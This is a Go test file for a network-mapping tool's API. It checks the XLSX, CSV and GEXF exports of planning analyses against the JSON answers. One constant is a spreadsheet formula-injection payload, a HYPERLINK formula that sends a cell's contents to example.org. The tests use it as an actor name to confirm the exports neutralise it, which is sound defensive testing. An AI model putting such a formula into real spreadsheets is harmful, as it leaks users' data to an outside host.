package api

import (
	"math"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"testing"

	"github.com/netzwerkatlas/netzwerkatlas/graph"
	plan "github.com/netzwerkatlas/netzwerkatlas/graph/analysis/planning"
	"github.com/netzwerkatlas/netzwerkatlas/graph/demo"
)

// newDemoEnvWith starts a test environment with the demo county, changed by edit
// before it is loaded.
func newDemoEnvWith(t *testing.T, edit func(b *graph.Batch)) (*testEnv, *graph.Batch) {
	t.Helper()
	env := newEnv(t, Config{})
	b := demo.Generate(demo.County())
	edit(b)
	body, err := marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	if rec := env.do(req{method: "POST", path: "/api/v1/batch", role: editor, body: string(body)}); rec.Code != http.StatusOK {
		t.Fatalf("batch: %d %.500s", rec.Code, rec.Body)
	}
	return env, b
}

// header returns the index of the column with the header in rows[0].
func header(t *testing.T, rows [][]string, name string) int {
	t.Helper()
	i := slices.Index(rows[0], name)
	if i < 0 {
		t.Fatalf("no column %q in %q", name, rows[0])
	}
	return i
}

// cell returns the cell of row r (1-based data row) in the column, "" if the row
// is shorter (excelize leaves trailing empty cells out).
func cell(rows [][]string, r, col int) string {
	if col < len(rows[r]) {
		return rows[r][col]
	}
	return ""
}

// formulaName is an actor name that a spreadsheet would run as a formula.
const formulaName = `=HYPERLINK("https://example.org/?x="&A1,"Klick")`

// TestAnalysisTables reads the planning analyses of one wave of the demo county back
// from their XLSX and CSV downloads and compares headers and values with the JSON
// answers for the same state. An actor whose name is a formula comes out inert.
func TestAnalysisTables(t *testing.T) {
	env, b := newDemoEnvWith(t, func(b *graph.Batch) { b.Actors[0].Name = formulaName })
	formulaKey := b.Actors[0].ExternalKey
	wave := "wave=" + b.Waves[1].ID
	get := func(path string, v any) {
		t.Helper()
		rec := env.do(req{method: "GET", path: path, role: analyst})
		if rec.Code != http.StatusOK {
			t.Fatalf("%s: %d %.300s", path, rec.Code, rec.Body)
		}
		decodeBody(t, rec, v)
	}
	xlsx := func(path, prefix, sheet string) [][]string {
		t.Helper()
		return sheetRows(t, download(t, env.do(req{method: "GET", path: path, role: analyst}), contentXLSX, prefix), sheet)
	}
	// shown is how a name appears in a table: the formula with a leading apostrophe.
	shown := func(name string) string {
		if name == formulaName {
			return "'" + name
		}
		return name
	}
	round2 := func(v float64) string { return strconv.FormatFloat(math.Round(v*100)/100, 'f', -1, 64) }

	t.Run("potentials", func(t *testing.T) {
		var r plan.PotentialReport
		get("/api/v1/analysis/coupling-potentials?limit=20&"+wave, &r)
		rows := xlsx("/api/v1/analysis/coupling-potentials?limit=20&format=xlsx&"+wave, "netzwerkatlas-kopplungspotenziale-", "Kopplungspotenziale")
		if len(r.Potentials) == 0 || len(rows) != len(r.Potentials)+1 {
			t.Fatalf("%d rows for %d potentials", len(rows), len(r.Potentials))
		}
		a, bn, score, partners := header(t, rows, "Akteur A"), header(t, rows, "Akteur B"), header(t, rows, "Potenzial"), header(t, rows, "Gemeinsame Partner (Anzahl)")
		domains := header(t, rows, "Rechtskreise A")
		for i, p := range r.Potentials {
			if rows[i+1][a] != shown(p.A.Name) || rows[i+1][bn] != shown(p.B.Name) || rows[i+1][score] != round2(p.Score) ||
				rows[i+1][partners] != strconv.Itoa(len(p.SharedPartners)) {
				t.Errorf("row %d %q, want %s / %s %v", i+1, rows[i+1], p.A.Name, p.B.Name, p.Score)
			}
			if slices.Contains(p.A.LegalDomains, "sgb2") && !regexp.MustCompile(`SGB II\b`).MatchString(rows[i+1][domains]) {
				t.Errorf("legal domains of A %q, want German labels", rows[i+1][domains])
			}
		}
		recs := csvRecords(t, download(t, env.do(req{method: "GET", path: "/api/v1/analysis/coupling-potentials?limit=20&format=csv&" + wave, role: analyst}), contentCSV, "netzwerkatlas-kopplungspotenziale-"))
		if len(recs) != len(rows) || !slices.Equal(recs[0], rows[0]) {
			t.Errorf("CSV has %d rows and headers %q, want %d and %q", len(recs), recs[0], len(rows), rows[0])
		}
	})

	t.Run("resilience", func(t *testing.T) {
		var r plan.ResilienceReport
		get("/api/v1/analysis/resilience?"+wave, &r)
		rows := xlsx("/api/v1/analysis/resilience?format=xlsx&"+wave, "netzwerkatlas-resilienz-", "Resilienz")
		if len(rows) != len(r.Actors)+1 {
			t.Fatalf("%d rows for %d actors", len(rows), len(r.Actors))
		}
		key, name, pairs, share := header(t, rows, "Schlüssel"), header(t, rows, "Akteur"), header(t, rows, "Getrennte Akteurspaare bei Ausfall"), header(t, rows, "Erreichbare Paare danach (%)")
		found := false
		for i, a := range r.Actors {
			row := rows[i+1]
			if row[pairs] != strconv.Itoa(a.DisconnectedPairs) || row[share] != strconv.FormatFloat(math.Round(a.ConnectedShare*1000)/10, 'f', -1, 64) {
				t.Errorf("row %d %q, want %d pairs, share %v", i+1, row, a.DisconnectedPairs, a.ConnectedShare)
			}
			if row[key] == formulaKey {
				found = true
				if row[name] != "'"+formulaName {
					t.Errorf("name %q, want the formula neutralised", row[name])
				}
			} else if row[name] != a.Name {
				t.Errorf("row %d name %q, want %q", i+1, row[name], a.Name)
			}
		}
		if !found {
			t.Errorf("actor %s with the formula name not in the table", formulaKey)
		}
	})

	t.Run("social spaces", func(t *testing.T) {
		var r plan.SpaceReport
		get("/api/v1/analysis/social-spaces?"+wave, &r)
		rows := xlsx("/api/v1/analysis/social-spaces?format=xlsx&"+wave, "netzwerkatlas-sozialraeume-", "Sozialräume")
		if len(rows) != len(r.Spaces)+1 {
			t.Fatalf("%d rows for %d spaces", len(rows), len(r.Spaces))
		}
		name, ties, level := header(t, rows, "Sozialraum"), header(t, rows, "Kooperationen"), header(t, rows, "Ebene")
		for i, s := range r.Spaces {
			if rows[i+1][name] != s.Name || rows[i+1][ties] != strconv.Itoa(s.Ties) || rows[i+1][level] == s.Level && s.Level != "" {
				t.Errorf("row %d %q, want %s with %d ties and a German level for %q", i+1, rows[i+1], s.Name, s.Ties, s.Level)
			}
		}
	})

	t.Run("coupling matrix", func(t *testing.T) {
		var r plan.CouplingReport
		get("/api/v1/analysis/coupling-matrix?"+wave, &r)
		rows := xlsx("/api/v1/analysis/coupling-matrix?format=xlsx&"+wave, "netzwerkatlas-kopplungsmatrix-", "Rechtskreise")
		cells := r.LegalDomains.Cells
		if len(rows) != len(cells)+1 {
			t.Fatalf("%d rows for %d cells", len(rows), len(cells))
		}
		label := map[string]string{}
		for _, g := range r.LegalDomains.Groups {
			label[g.Code] = g.Label
		}
		a, bc, ties, weak := header(t, rows, "Gruppe A"), header(t, rows, "Gruppe B"), header(t, rows, "Kooperationen"), header(t, rows, "Schwach gekoppelt")
		weakRows := 0
		for i, c := range cells {
			row := rows[i+1]
			if row[a] != label[c.A] || row[bc] != label[c.B] || row[ties] != strconv.Itoa(c.Ties) {
				t.Errorf("row %d %q, want %s–%s with %d ties", i+1, row, label[c.A], label[c.B], c.Ties)
			}
			if row[weak] == "ja" {
				weakRows++
			}
			if c.Weak != (row[weak] == "ja") {
				t.Errorf("row %d weak %q, want %v", i+1, row[weak], c.Weak)
			}
		}
		if weakRows == 0 {
			t.Error("no weak cell; the demo county plants weak pairs")
		}
		// With social_space, the space's matrix is a further sheet, as in the JSON.
		space := b.SocialSpaces[1]
		get("/api/v1/analysis/coupling-matrix?social_space="+space.ID+"&"+wave, &r)
		rows = xlsx("/api/v1/analysis/coupling-matrix?format=xlsx&social_space="+space.ID+"&"+wave, "netzwerkatlas-kopplungsmatrix-", "Rechtskreise im Sozialraum")
		if r.SocialSpace == nil || len(rows) != len(r.SocialSpace.LegalDomains.Cells)+1 || len(rows) > 1 && rows[1][header(t, rows, "Sozialraum")] != space.Name {
			t.Errorf("space sheet %q for %s", rows, space.Name)
		}
	})

	t.Run("gaps", func(t *testing.T) {
		var r plan.GapReport
		get("/api/v1/analysis/gaps?"+wave, &r)
		rows := xlsx("/api/v1/analysis/gaps?format=xlsx&"+wave, "netzwerkatlas-angebotsluecken-", "Lücken")
		if len(r.Gaps) == 0 || len(rows) != len(r.Gaps)+1 {
			t.Fatalf("%d rows for %d gaps", len(rows), len(r.Gaps))
		}
		kind, text := header(t, rows, "Art"), header(t, rows, "Erläuterung")
		for i, g := range r.Gaps {
			if rows[i+1][text] != g.Explanation || rows[i+1][kind] == g.Kind {
				t.Errorf("row %d %q, want %q with a German kind for %s", i+1, rows[i+1], g.Explanation, g.Kind)
			}
		}
		supply := xlsx("/api/v1/analysis/gaps?format=xlsx&"+wave, "netzwerkatlas-angebotsluecken-", "Angebot")
		offers := header(t, supply, "Angebote")
		if len(supply) != len(r.Cells)+1 || cell(supply, 1, offers) != strconv.Itoa(r.Cells[0].Offers) {
			t.Errorf("supply sheet has %d rows, first %q; want %d rows, %d offers", len(supply), supply[1], len(r.Cells)+1, r.Cells[0].Offers)
		}
	})

	t.Run("wrong format", func(t *testing.T) {
		rec := env.do(req{method: "GET", path: "/api/v1/analysis/gaps?format=gexf", role: analyst})
		if p := problemOf(t, rec); rec.Code != http.StatusBadRequest || len(p.Errors) != 1 || p.Errors[0].Field != "format" {
			t.Errorf("%d %+v, want a 400 naming format", rec.Code, p)
		}
		if rec := env.do(req{method: "GET", path: "/api/v1/analysis/gaps?format=xlsx", role: viewer}); rec.Code != http.StatusForbidden {
			t.Errorf("viewer: %d, want 403", rec.Code)
		}
	})
}

// gexfEdge matches an edge of a GEXF file; gexfTitle an attribute's ID and title.
var (
	gexfEdge  = regexp.MustCompile(`<edge id="[^"]*" source="([^"]*)" target="([^"]*)"`)
	gexfTitle = regexp.MustCompile(`<attribute id="([^"]*)" title="([^"]*)"`)
)

// TestExportGEXFState exports the demo county, whose pairs are recorded in several
// waves, as GEXF: one edge per tie of the state (today, or the wave asked for), as
// /network shows it, never one per cooperation record, and attributes titled in
// German.
func TestExportGEXFState(t *testing.T) {
	env, b := newDemoEnvWith(t, func(*graph.Batch) {})
	for _, state := range []string{"", "?wave=" + b.Waves[0].ID} {
		var n networkResponse
		rec := env.do(req{method: "GET", path: "/api/v1/network" + state, role: viewer})
		decodeBody(t, rec, &n)
		body := download(t, env.do(req{method: "GET", path: "/api/v1/exports/gexf" + state, role: viewer}),
			"application/gexf+xml", "netzwerkatlas-netzwerk-")
		edges := gexfEdge.FindAllSubmatch(body, -1)
		if len(edges) != len(n.Edges) || len(edges) >= len(b.Cooperations) {
			t.Errorf("state %q: %d edges, want %d ties of /network (of %d cooperation records)", state, len(edges), len(n.Edges), len(b.Cooperations))
		}
		pairs := map[[2]string]bool{}
		for _, e := range edges {
			p := [2]string{string(e[1]), string(e[2])}
			if p[0] > p[1] {
				p[0], p[1] = p[1], p[0]
			}
			if pairs[p] {
				t.Errorf("state %q: pair %v twice", state, p)
			}
			pairs[p] = true
		}
		for _, m := range gexfTitle.FindAllSubmatch(body, -1) {
			if string(m[1]) == string(m[2]) || regexp.MustCompile(`^[a-z_]+$`).Match(m[2]) {
				t.Errorf("attribute %s titled %q, want a German title", m[1], m[2])
			}
		}
	}
}
